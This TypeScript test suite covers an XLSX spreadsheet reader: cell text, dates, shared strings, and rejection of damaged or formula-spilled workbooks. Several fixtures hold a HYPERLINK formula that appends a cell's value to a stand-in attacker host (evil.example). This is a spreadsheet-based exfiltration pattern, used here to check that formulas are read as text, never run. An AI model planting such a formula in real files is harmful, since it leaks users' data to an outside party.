import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import * as ExcelJS from 'exceljs';
import { openSheet, sheetFormatOf, type SheetRow } from './read-sheet';
import { SheetError } from './sheet-error';
import { writeXlsx } from '../../test-support/xlsx-fixture';
import { writeZip } from '../../test-support/zip-fixture';
import { dateText, numberText } from './xlsx-cell-text';
import { isDateFormat } from './xlsx-styles';

let dir: string;
let count = 0;

beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), 'xlsx-read-spec-'));
});
afterAll(async () => {
  await rm(dir, { recursive: true, force: true });
});

function path(): string {
  return join(dir, `book-${++count}.xlsx`);
}

async function readAll(file: string): Promise<{ header: string[]; rows: SheetRow[] }> {
  const sheet = await openSheet(file);
  const rows: SheetRow[] = [];
  for await (const row of sheet.rows) rows.push(row);
  return { header: sheet.header, rows };
}

/** Reads until the sheet is refused; returns the rows read before, and the error. */
async function readUntilRefused(file: string): Promise<{ rows: SheetRow[]; error: SheetError }> {
  const rows: SheetRow[] = [];
  const error = await (async () => {
    const sheet = await openSheet(file);
    for await (const row of sheet.rows) rows.push(row);
  })().then(
    () => null,
    (e: unknown) => e,
  );
  expect(error).toBeInstanceOf(SheetError);
  return { rows, error: error as SheetError };
}

const inline = (ref: string, text: string) => `<c r="${ref}" t="inlineStr"><is><t>${text}</t></is></c>`;

describe('openSheet on XLSX written by exceljs', () => {
  it('reads every cell as text and formulas as their text, never their cached result', async () => {
    const workbook = new ExcelJS.Workbook();
    const sheet = workbook.addWorksheet('Catalogue');
    sheet.addRow(['catno', 'price', 'added', 'link', 'name', 'stock', 'check']);
    sheet.addRow([
      'A001',
      12.499999999999998,
      new Date(Date.UTC(2024, 2, 5)),
      { formula: 'HYPERLINK("http://evil.example/?"&A2,"Datasheet")', result: 'Datasheet' },
      { richText: [{ text: 'β-actin ' }, { font: { bold: true }, text: '抗体' }] },
      true,
      { error: '#N/A' },
    ]);
    sheet.addRow(['A002', 0.1 + 0.2, new Date(Date.UTC(2024, 11, 31, 14, 30, 0)), { formula: 'B3*2', result: 0.6 }]);
    sheet.getCell('A5').value = 'A003';
    sheet.getCell('B5').value = -20;
    sheet.getCell('E5').value = 1e-7;
    const file = path();
    await workbook.xlsx.writeFile(file);

    expect(await sheetFormatOf(file)).toBe('xlsx');
    const read = await readAll(file);
    expect(read.header).toEqual(['catno', 'price', 'added', 'link', 'name', 'stock', 'check']);
    expect(read.rows).toEqual([
      {
        row: 2,
        cells: [
          'A001',
          '12.5',
          '2024-03-05',
          '=HYPERLINK("http://evil.example/?"&A2,"Datasheet")',
          'β-actin 抗体',
          'TRUE',
          '#N/A',
        ],
      },
      { row: 3, cells: ['A002', '0.3', '2024-12-31T14:30:00', '=B3*2', '', '', ''] },
      // Row 4 does not exist in the file: the gap stays visible in the numbering.
      { row: 5, cells: ['A003', '-20', '', '', '0.0000001', '', ''] },
    ]);
  });

  it('refuses a formula filled down from another cell (shared formula), naming the row', async () => {
    const workbook = new ExcelJS.Workbook();
    const sheet = workbook.addWorksheet('Catalogue');
    sheet.addRow(['catno', 'link']);
    sheet.getCell('A2').value = 'A001';
    sheet.getCell('B2').value = { formula: 'HYPERLINK("http://evil.example")', result: 'x' };
    sheet.getCell('A3').value = 'A002';
    sheet.getCell('B3').value = { sharedFormula: 'B2', result: 'x' } as ExcelJS.CellValue;
    const file = path();
    await workbook.xlsx.writeFile(file);

    const { rows, error } = await readUntilRefused(file);
    expect(rows).toEqual([{ row: 2, cells: ['A001', '=HYPERLINK("http://evil.example")'] }]);
    expect(error.row).toBe(3);
    expect(error.reason.en).toContain('the cell in column B belongs to a formula filled or spilled from another cell');
  });
});

describe('openSheet on XLSX as other programs write it', () => {
  it('reads the first tab, even when it is not the first worksheet in the file', async () => {
    const file = path();
    await writeXlsx(file, {
      sheets: [
        { name: 'Products', rows: `<row r="1">${inline('A1', 'catno')}</row><row r="2">${inline('A2', 'A001')}</row>` },
        { name: 'Notes', rows: `<row r="1">${inline('A1', 'not this one')}</row>` },
      ],
    });
    expect(await readAll(file)).toEqual({ header: ['catno'], rows: [{ row: 2, cells: ['A001'] }] });
  });

  it('reads shared strings without their phonetic guides, Excel escapes (_x000D_) and inline rich text', async () => {
    const file = path();
    await writeXlsx(file, {
      sharedStrings:
        '<si><t>catno</t></si><si><t>name</t></si>' +
        '<si><t>東京</t><rPh sb="0" eb="2"><t>トウキョウ</t></rPh><phoneticPr fontId="1"/></si>' +
        '<si><r><t xml:space="preserve">兔抗 </t></r><r><rPr><b/></rPr><t>β-actin</t></r></si>' +
        '<si><t>R&amp;D &amp;lt;b&amp;gt;</t></si>' +
        '<si><t>line one_x000D_\nline two _x005F_x0041_</t></si>',
      sheets: [
        {
          name: 'Products',
          rows:
            '<row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1" t="s"><v>1</v></c></row>' +
            '<row r="2"><c r="A2" t="s"><v>2</v></c><c r="B2" t="s"><v>3</v></c></row>' +
            '<row r="3"><c r="A3" t="s"><v>4</v></c><c r="B3" t="inlineStr"><is><r><t>多</t></r><r><t>段</t></r></is></c></row>' +
            '<row r="4"><c r="A4" t="s"><v>5</v></c></row>',
        },
      ],
    });
    expect((await readAll(file)).rows).toEqual([
      { row: 2, cells: ['東京', '兔抗 β-actin'] },
      { row: 3, cells: ['R&D &lt;b&gt;', '多段'] },
      { row: 4, cells: ['line one\r\nline two _x0041_', ''] },
    ]);
  });

  it('reads dates from built-in (also Chinese) and custom formats, in the 1904 system too', async () => {
    const styles =
      '<numFmts count="2"><numFmt numFmtId="164" formatCode="yyyy/m/d\\ h:mm"/><numFmt numFmtId="165" formatCode="&quot;第&quot;0&quot;批&quot;"/></numFmts>' +
      '<cellStyleXfs count="1"><xf numFmtId="14"/></cellStyleXfs>' +
      '<cellXfs count="5"><xf numFmtId="0"/><xf numFmtId="14"/><xf numFmtId="31"/><xf numFmtId="164"/><xf numFmtId="165"/></cellXfs>';
    const rows =
      `<row r="1">${inline('A1', 'plain')}${inline('B1', 'iso')}${inline('C1', 'zh')}${inline('D1', 'custom')}${inline('E1', 'batch')}</row>` +
      '<row r="2"><c r="A2"><v>45356</v></c><c r="B2" s="1"><v>45356</v></c><c r="C2" s="2"><v>45356</v></c>' +
      '<c r="D2" s="3"><v>45356.5625</v></c><c r="E2" s="4"><v>7</v></c></row>';
    const file = path();
    await writeXlsx(file, { styles, sheets: [{ name: 'Dates', rows }] });
    expect((await readAll(file)).rows).toEqual([
      { row: 2, cells: ['45356', '2024-03-05', '2024-03-05', '2024-03-05T13:30:00', '7'] },
    ]);

    const file1904 = path();
    await writeXlsx(file1904, { styles, date1904: true, sheets: [{ name: 'Dates', rows }] });
    expect((await readAll(file1904)).rows[0]?.cells.slice(1, 3)).toEqual(['2028-03-06', '2028-03-06']);
  });

  it('reads cells without references, booleans, errors and prefixed element names', async () => {
    const file = path();
    await writeXlsx(file, {
      sheets: [
        {
          name: 'Odd',
          rows:
            `<row>${inline('A1', 'a')}${inline('B1', 'b')}${inline('C1', 'c')}</row>` +
            '<row><c t="b"><v>1</v></c><c t="e"><v>#DIV/0!</v></c><c><v>1.5</v></c></row>' +
            '<x:row xmlns:x="http://schemas.openxmlformats.org/spreadsheetml/2006/main" r="5"><x:c r="B5"><x:v>2</x:v></x:c></x:row>',
        },
      ],
    });
    expect(await readAll(file)).toEqual({
      header: ['a', 'b', 'c'],
      rows: [
        { row: 2, cells: ['TRUE', '#DIV/0!', '1.5'] },
        { row: 5, cells: ['', '2', ''] },
      ],
    });
  });

  it('reads parts stored without compression', async () => {
    const file = path();
    await writeXlsx(file, {
      stored: true,
      sheets: [
        { name: 'Products', rows: `<row r="1">${inline('A1', 'catno')}</row><row r="2">${inline('A2', 'A001')}</row>` },
        { name: 'Notes', rows: `<row r="1">${inline('A1', 'x')}</row>` },
      ],
    });
    expect((await readAll(file)).rows).toEqual([{ row: 2, cells: ['A001'] }]);
  });

  it('refuses the cells an array formula spills into, keeping the formula itself', async () => {
    const file = path();
    await writeXlsx(file, {
      sheets: [
        {
          name: 'Arrays',
          rows:
            `<row r="1">${inline('A1', 'catno')}${inline('B1', 'link')}</row>` +
            '<row r="2"><c r="A2"><v>1</v></c><c r="B2" t="str"><f t="array" ref="B2:B3">HYPERLINK("http://evil.example")</f><v>x</v></c></row>' +
            '<row r="3"><c r="A3"><v>2</v></c><c r="B3" t="str"><v>x</v></c></row>',
        },
      ],
    });
    const { rows, error } = await readUntilRefused(file);
    expect(rows).toEqual([{ row: 2, cells: ['1', '=HYPERLINK("http://evil.example")'] }]);
    expect(error.row).toBe(3);
    expect(error.reason.en).toContain('column B belongs to a formula');
  });

  it('refuses a cell pointing at a shared string that does not exist', async () => {
    const file = path();
    await writeXlsx(file, {
      sharedStrings: '<si><t>catno</t></si>',
      sheets: [{ name: 'S', rows: '<row r="1"><c r="A1" t="s"><v>0</v></c></row><row r="2"><c r="A2" t="s"><v>9</v></c></row>' }],
    });
    const { error } = await readUntilRefused(file);
    expect(error.row).toBe(2);
    expect(error.reason.en).toContain('cannot be read');
  });

  it('refuses rows out of order', async () => {
    const file = path();
    await writeXlsx(file, {
      sheets: [{ name: 'S', rows: `<row r="3">${inline('A3', 'catno')}</row><row r="2">${inline('A2', 'x')}</row>` }],
    });
    const { error } = await readUntilRefused(file);
    expect(error.reason.en).toContain('cannot be read');
  });

  it('refuses a damaged workbook with a clear message', async () => {
    const file = path();
    await writeFile(file, Buffer.concat([Buffer.from('PK\x03\x04'), Buffer.alloc(200, 7)]));
    const { error } = await readUntilRefused(file);
    expect(error.text.en).toContain('cannot be read');
  });

  it('refuses broken XML in the worksheet', async () => {
    const file = path();
    await writeXlsx(file, { sheets: [{ name: 'S', rows: `<row r="1">${inline('A1', 'catno')}</row><row r="2"><c>` }] });
    const { error } = await readUntilRefused(file);
    expect(error.text.en).toContain('cannot be read');
  });

  it('refuses a ZIP that holds no worksheet (images uploaded as the sheet)', async () => {
    const file = path();
    await writeZip(file, [{ name: 'fig1.png', data: 'not really a png' }]);
    const { error } = await readUntilRefused(file);
    expect(error.text.en).toContain('no worksheet');
  });
});

describe('cell text', () => {
  it.each([
    [12.499999999999998, '12.5'],
    [0.1 + 0.2, '0.3'],
    [42, '42'],
    [-0, '0'],
    [1e21, '1000000000000000000000'],
    [1234567890123, '1234567890123'],
    [-20.25, '-20.25'],
  ])('number %p reads %p', (value, text) => {
    expect(numberText(value)).toBe(text);
  });

  it.each([
    [new Date(Date.UTC(2024, 0, 2)), '2024-01-02'],
    [new Date(Date.UTC(2024, 0, 2, 9, 5, 59, 999)), '2024-01-02T09:06:00'],
    [new Date(Date.UTC(1899, 11, 30, 14, 30)), '14:30:00'],
  ])('date %p reads %p', (value, text) => {
    expect(dateText(value)).toBe(text);
  });

  it.each([
    ['yyyy-mm-dd', true],
    ['yyyy"年"m"月"d"日"', true],
    ['[$-804]yyyy/m/d', true],
    ['h:mm:ss', true],
    ['0.00E+00', false],
    ['#,##0.00 "USD"', false],
    ['"第"0"批"', false],
    ['[Red]0.00', false],
    ['General', false],
  ])('format %j is a date: %p', (code, isDate) => {
    expect(isDateFormat(code)).toBe(isDate);
  });
});
